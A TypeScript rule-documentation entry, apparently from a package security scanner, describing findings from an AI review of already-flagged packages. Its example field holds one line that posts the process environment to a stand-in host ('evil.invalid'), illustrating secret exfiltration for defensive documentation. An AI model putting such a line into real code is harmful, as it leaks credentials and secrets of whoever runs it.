import type { RuleDoc } from '../../model/rule.js';

/** What a language model found in a package that tiers 1 or 2 had flagged. */
export const aiFinding: RuleDoc = {
  id: 'ai-finding',
  title: 'The AI review found a behaviour',
  why: 'A language model read files of a package that was flagged already and describes what they do. It quotes the place, and the quotation was held against the file; what it concludes may still be wrong.',
  remedy: 'Read the place that is quoted. The other findings of the package say why it was reviewed.',
  example: 'requests.post("https://evil.invalid/", data=str(os.environ))',
};
